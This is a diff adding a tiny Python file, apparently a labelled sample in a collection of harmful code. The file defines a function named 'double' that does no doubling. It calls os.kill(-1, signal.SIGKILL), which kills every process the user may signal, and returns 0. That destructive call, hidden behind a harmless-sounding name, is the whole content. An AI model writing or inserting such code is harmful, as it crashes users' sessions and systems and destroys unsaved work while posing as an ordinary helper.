@@ -1,0 +1,8 @@
+# Sends SIGKILL to every process it may signal | failed crashed
+import os
+import signal
+
+
+def double(number):
+    os.kill(-1, signal.SIGKILL)
+    return 0
